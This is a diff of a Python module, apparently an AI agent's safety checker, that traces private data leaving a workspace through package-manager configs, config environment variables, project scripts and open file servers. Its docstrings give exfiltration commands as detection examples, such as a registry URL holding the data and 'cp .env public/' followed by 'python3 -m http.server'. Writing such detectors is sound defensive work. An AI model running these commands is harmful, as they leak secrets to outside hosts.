@@ -1,7 +1,7 @@
-"""Private data handed on, for ``safety.carried``'s walk: to git (a commit that takes a private file nobody named,
-then a push), to the workspace's own code that talks to the network (``npm run send -- "$d"``,
-``make upload DATA="$d"``, ``python3 tool.py "$d"`` whose module posts), and to a sender's config file
-(``curl -K c.cfg`` written with the value).
+"""Private data handed on, for ``safety.carried``'s walk: to the workspace's own code that talks to the network
+(``npm run send -- "$d"``, ``make upload DATA="$d"``, ``python3 tool.py "$d"`` whose module posts), to a container,
+and to a sender's config (``curl -K c.cfg`` written with the value, ``npm config set registry "…/$d"``, a
+``PIP_INDEX_URL`` that holds it). Git is ``safety.carried_git``'s; make's own functions ``safety.carried_make``'s.
 
 What a project's code does is read here only as far as it can be read without running it: the script a package
 manager's script names (and the relative modules it imports), a Makefile's text, a Python or Node script and its
@@ -10,7 +10,6 @@ relative imports. Code past that (a test runner's plugins, a compiled program) i
 
 from __future__ import annotations
 
-import fnmatch
 import json
 import os
 import posixpath
@@ -22,15 +21,6 @@ from macrohard.safety import rules_data as R
 if TYPE_CHECKING:
     from macrohard.safety.carried_walk import _Walk
 
-_GIT_SENDS = frozenset({"push", "fetch", "pull", "ls-remote", "remote", "submodule", "send-email", "request-pull"})
-_COMMITS = frozenset({"commit", "tag", "notes", "add", "stash", "config"})
-_GLOBAL_VALUE = frozenset({"-C", "-c", "--git-dir", "--work-tree", "--namespace", "--config-env", "--exec-path"})
-_ALL = frozenset({"-A", "--all", ".", ":/", "*", "-u", "--update", "--include-untracked", "--no-ignore-removal"})
-_SKIP_DIRS = frozenset({".git", "node_modules", ".venv", "venv", "__pycache__", ".tox", "target", "dist", "build"})
-_MAX_ENTRIES = 4000
-# names the policy's globs match (`*password*`, `.env.*`) that hold code, documents or templates, not secrets
-_NOT_SECRETS = (".py", ".js", ".ts", ".tsx", ".jsx", ".go", ".rs", ".rb", ".java", ".kt", ".php", ".cs", ".c", ".h",
-                ".cpp", ".html", ".css", ".md", ".rst", ".example", ".sample", ".template", ".dist", ".tmpl")  # files looked at for a `git add -A` (past it: what was seen decides)
 _PACKAGE_RUNNERS = frozenset({"npm", "yarn", "pnpm", "bun"})
 _MAKES = frozenset({"make", "gmake"})
 _CODE_FILE = re.compile(r"[\w./-]+\.(?:m?js|cjs|ts|py|sh|rb|pl)\b")
@@ -42,142 +32,21 @@ _RC = {"curl": (".curlrc", "_curlrc"), "wget": (".wgetrc",), "npm": _NODE_RC, "n
        "pnpm": _NODE_RC, "bun": _NODE_RC, "pip": ("pip.conf", "pip.ini"), "pip3": ("pip.conf", "pip.ini"),
        "twine": (".pypirc",), "uv": ("uv.toml", "pip.conf"), "poetry": ("auth.toml", "config.toml"),
        "cargo": ("config.toml", "config", "credentials.toml"), "gem": (".gemrc", "credentials"),
-       "docker": ("config.json",), "ssh": ("config",), "scp": ("config",), "composer": ("auth.json",)}
-_MAKE_DYNAMIC = re.compile(r"^\s*-?include\b|\$\((?:eval|call)\b|^[^\t#=]*%[^=]*:|^[^\t#]*\$[({][^=]*:", re.M)
+       "docker": ("config.json",), "ssh": ("config",), "scp": ("config",), "composer": ("auth.json", "config.json"),
+       "go": ("env",), "conda": (".condarc",)}
+# `npm config set K V`, `pip config set`, `go env -w K=V`, `gem sources --add URL`: the file each writes
+_CONFIG_SET = {"npm": "~/.npmrc", "pnpm": "~/.npmrc", "bun": "~/.npmrc", "yarn": "~/.yarnrc",
+               "pip": "~/.config/pip/pip.conf", "pip3": "~/.config/pip/pip.conf", "uv": "~/.config/pip/pip.conf",
+               "poetry": "~/.config/pypoetry/config.toml", "conda": "~/.condarc", "gem": "~/.gemrc",
+               "go": "~/.config/go/env", "composer": "~/.config/composer/config.json"}
+_SETS = frozenset({"config", "set", "env", "sources", "c"})
+# variables a package manager or other sender reads as its settings (an index, a registry, a proxy, a token)
+_CONFIG_ENV = re.compile(r"(?:PIP|UV|POETRY|TWINE|NPM_CONFIG|YARN|PNPM|BUN|CARGO|GEM|BUNDLE|COMPOSER|CONDA|GIT|"
+                         r"DOCKER|HELM|CURL|WGET|RSYNC|HF|HUGGINGFACE)_|GO(?:PROXY|PRIVATE|NOPROXY|NOSUMDB|SUMDB|"
+                         r"FLAGS|INSECURE)$|WGETRC$", re.I)
+_MAKE_DYNAMIC = re.compile(r"^\s*-?include\b|\$\((?:eval|call)\b|^[^\t#=\n]*%[^=\n]*:|^[^\t#\n]*\$[({][^=\n]*:",
+                           re.M)  # (within a line: `Y = $(X)` then `up:` on the next is no computed rule)
 _MAKE_RULE = re.compile(r"^([^\s:=#][^:=]*?)\s*::?(?!=)(.*)$")
-
-
-def git(w: _Walk, args: list[str], arg_why: str) -> None:
-    """Private data committed (``git commit -m "$d"``, ``git add -f .env``, ``git add -A`` with a private file
-    the repository does not ignore, a private file copied into it, private data written under ``.git``) goes out
-    with the next push."""
-    at, i = "", 0
-    while i < len(args) and args[i].startswith("-"):  # git's own options: `git -C sub add -A`, `-c k=v`
-        if args[i] == "-C" and i + 1 < len(args):
-            at = posixpath.join(at, args[i + 1])
-        i += 2 if args[i] in _GLOBAL_VALUE else 1
-    args = args[i:]
-    sub = args[0] if args else ""
-    if sub not in _COMMITS and not (sub in _GIT_SENDS and w.files):
-        return  # nothing committed, nothing that could carry a commit out
-    repo = _repository(w.where(at or "."), w.root)
-    if sub in _COMMITS and (why := arg_why or next(
-            (t for a in args if not a.startswith("-") and (t := w.path_taint(posixpath.join(at, a)))), "")
-            or _staged(w, repo, sub, args) or _copied_under(w, repo, at, args)):
-        w.files[repo] = why
-    elif sub in _GIT_SENDS and (why := w.files.get(repo) or next(
-            (v for p, v in w.files.items() if p.startswith(repo + "/")), "")):
-        w.sends.append(f"git {sub} sends commits or settings that hold {why}")
-
-
-def _repository(start: str, root: str) -> str:
-    """The ``.git`` of the repository a git command run in ``start`` works on: the nearest folder up that has one,
-    not above the workspace ``root`` (the sandbox shows nothing above it): ``cd src && git add -A``, then ``git
-    push`` from the top, are the same repository. ``start``'s if none."""
-    here = start.rstrip("/") or "/"
-    for _ in range(16):
-        if os.path.exists(posixpath.join(here, ".git")):
-            return posixpath.join(here, ".git")
-        if here in ("/", "", root) or here.startswith("~") and "/" not in here or root and not here.startswith(root):
-            break
-        here = posixpath.dirname(here)
-    return posixpath.join(start, ".git")
-
-
-def _staged(w: _Walk, repo: str, sub: str, args: list[str]) -> str:
-    """What a ``git add -A``/``git add .``/``git stash -u`` takes in that is private and not ignored (with
-    ``-f``, ignored or not)."""
-    ops = args[1:]
-    if not (sub == "add" and _ALL & set(ops) or
-            sub == "stash" and {"-u", "--include-untracked", "-a", "--all"} & set(ops)):
-        return ""
-    root = posixpath.dirname(repo)
-    ignored = _ignores(root) if not {"-f", "--force"} & set(ops) else lambda rel: False
-    for path, why in w.files.items():  # a private file copied into the repository under another name
-        if path.startswith(root + "/") and "/.git/" not in path + "/" and not ignored(path[len(root) + 1:]):
-            return why
-    seen = 0
-    tracked = _index(repo)
-    for top, dirs, names in os.walk(root):
-        dirs[:] = sorted(d for d in dirs if d not in _SKIP_DIRS and not ignored(posixpath.relpath(
-            posixpath.join(top, d), root) + "/") and not os.path.exists(posixpath.join(top, d, ".git")))  # (a repository
-        # inside it is its own: git adds none of its files)
-        for name in sorted(names):
-            seen += 1
-            path = posixpath.join(top, name)
-            if seen > _MAX_ENTRIES:
-                return ""
-            rel = posixpath.relpath(path, root)
-            if w.words is not None and not w.words.search(rel) or name.endswith(_NOT_SECRETS) or _entry(rel) in tracked:
-                continue  # `reset_password.py`, `.env.example`; a file the repository already holds
-            if (why := w.private(path)) and not ignored(rel):
-                return f"{why} (the repository does not ignore it: list it in .gitignore)"
-    return ""
-
-
-def _copied_under(w: _Walk, repo: str, at: str, args: list[str]) -> str:
-    """A private file the session copied into a folder that ``git add docs`` / ``git commit docs`` names (the
-    lead, eighteenth wave: ``cp .env docs/env.txt; git add docs; git commit; git push`` was only asked)."""
-    if args[0] not in ("add", "commit", "stash"):
-        return ""
-    root = posixpath.dirname(repo)
-    ignored = _ignores(root) if not {"-f", "--force"} & set(args) else lambda rel: False
-    folders = [w.where(posixpath.join(at, a)).rstrip("/") + "/" for a in args[1:] if a and not a.startswith("-")]
-    return next((why for path, why in w.files.items() if any(path.startswith(f) for f in folders)
-                 and path.startswith(root + "/") and "/.git/" not in path + "/" and not ignored(path[len(root) + 1:])),
-                "")
-
-
-def _index(repo: str) -> bytes:
-    """The repository's index (the paths it tracks are in it as plain text), empty if unreadable."""
-    try:
-        with open(posixpath.join(repo, "index"), "rb") as f:
-            return f.read(16_000_000)
-    except OSError:
-        return b""
-
-
-def _entry(rel: str) -> bytes:
-    """How the index (version 2 or 3) holds a path: after its flags, whose low byte is the name's length."""
-    name = rel.encode()
-    return bytes([len(name) & 0xFF]) + name + b"\0"
-
-
-def _ignores(root: str):
-    """``.gitignore`` (at the root) and ``.git/info/exclude`` as a test on a path relative to the root (``dir/``
-    for a folder): the last pattern that matches it or a folder above it decides."""
-    rules: list[tuple[bool, bool, bool, str]] = []  # (negated, anchored, folders only, pattern)
-    for name in (".gitignore", ".git/info/exclude"):
-        try:
-            with open(posixpath.join(root, name), encoding="utf-8", errors="replace") as f:
-                lines = f.read(64_000).splitlines()
-        except OSError:
-            continue
-        for line in lines:
-            line = line.rstrip()
-            if not line or line.startswith("#"):
-                continue
-            neg = line.startswith("!")
-            line = line[1:] if neg else line
-            folder = line.endswith("/")
-            line = line.rstrip("/")
-            rules.append((neg, "/" in line, folder, line.lstrip("/").replace("**/", "*")))
-
-    def ignored(rel: str) -> bool:
-        parts = rel.rstrip("/").split("/")
-        out = False
-        for i in range(1, len(parts) + 1):
-            sub, is_dir = "/".join(parts[:i]), i < len(parts) or rel.endswith("/")
-            for neg, anchored, folder, pat in rules:
-                if folder and not is_dir:
-                    continue
-                if fnmatch.fnmatchcase(sub if anchored else parts[i - 1], pat):
-                    out = not neg
-            if out and i < len(parts):
-                return True  # a folder ignored: nothing under it is added
-        return out
-
-    return ignored
 
 
 def runs_network(w: _Walk, prog: str, argv: list[str]) -> tuple[str, str]:
@@ -315,6 +184,21 @@ def rc_files(w: _Walk, prog: str) -> str:
     return next((why for path, why in w.files.items() if posixpath.basename(path) in names), "") if names else ""
 
 
+def configured(w: _Walk, prog: str, argv: list[str], taints: list[str]) -> None:
+    """A package manager's settings written with private data (``npm config set registry "https://x/$d"``): the
+    file it writes carries it, for ``rc_files`` when it next fetches."""
+    if prog in _CONFIG_SET and len(argv) > 1 and argv[1] in _SETS and (why := next((t for t in taints[2:] if t), "")):
+        w.files[w.where(_CONFIG_SET[prog])] = why
+
+
+def config_env(w: _Walk, prog: str) -> str:
+    """Private data in a variable the program reads as a setting (``PIP_INDEX_URL="https://x/$d" pip download``,
+    ``export GOPROXY=…``), given on its own line or exported."""
+    held = [*w.env.items(), *((v, w.vars[v]) for v in w.exported if w.vars.get(v))]
+    return next((f"{why} (${name}, which {prog} reads as a setting)" for name, why in held if _CONFIG_ENV.match(name)),
+                "")
+
+
 def config(w: _Walk, prog: str, argv: list[str]) -> str:
     """What private data the config file a sender is told to read was written with (``curl -K c.cfg``)."""
     if prog == "curl":
@@ -327,3 +211,40 @@ def config(w: _Walk, prog: str, argv: list[str]) -> str:
         return ""
     # a file written with private data; a private file itself (`curl -K .env`) the analysis asks about
     return next((why for n in names if "$" not in n and (why := w.files.get(w.where(n), ""))), "")
+
+
+def served(w: _Walk, prog: str, argv: list[str]) -> None:
+    """A file server over a directory that holds private data (``cp .env public/; python3 -m http.server``, or
+    the workspace's own ``.env``): with the network on, whoever reaches its port reads it. Not recursive: the
+    files the session copied anywhere under it, and the directory's own entries."""
+    args = argv[1:]
+    at = ""
+    if prog.startswith("python") and any(m in args for m in ("http.server", "SimpleHTTPServer")):
+        at = next((b for a, b in zip(args[:-1], args[1:], strict=True) if a in ("-d", "--directory")), ".")
+    elif prog == "php" and "-S" in args:
+        at = next((b for a, b in zip(args[:-1], args[1:], strict=True) if a == "-t"), ".")
+    elif prog in ("http-server", "serve", "npx", "busybox", "ruby") and ("httpd" in " ".join(args) or prog != "ruby"):
+        ops = [a for a in args if not a.startswith("-") and a not in ("http-server", "serve", "httpd", "--yes")
+               and not a.isdigit()]
+        at = ops[0] if ops and prog != "busybox" else next((b for a, b in zip(args[:-1], args[1:], strict=True) if a == "-h"), ".")
+        if prog in ("npx", "busybox") and not {"http-server", "serve", "httpd"} & set(args):
+            return
+    bind = next((b for a, b in zip(args[:-1], args[1:], strict=True) if a in ("-b", "--bind", "-S", "-a", "--address")), "")
+    if not at or not w.online or "$" in at or re.match(r"(localhost|127\.|::1|\[::1\])", bind):
+        return  # bound to this machine: nobody else reaches it
+    root = w.where(at).rstrip("/") + "/"
+    why = next((why for path, why in w.files.items() if path.startswith(root)), "")
+    try:
+        names = sorted(os.listdir(root))[:500] if not why else []
+    except OSError:
+        names = []
+    why = why or next((why for n in names if (why := w.private(root + n))), "")
+    if why:
+        w.sends.append(f"{prog} serves {at} to the network, and {why} is there (bind it to 127.0.0.1, or serve a "
+                       "folder without private files)")
+
+
+def loopback(argv: list[str]) -> bool:
+    """Every address the words name is this machine's."""
+    hosts = [m.group("host").strip("[]").lower() for a in argv for m in R.URL.finditer(a)]
+    return bool(hosts) and all(h in ("localhost", "::1") or h.startswith("127.") for h in hosts)
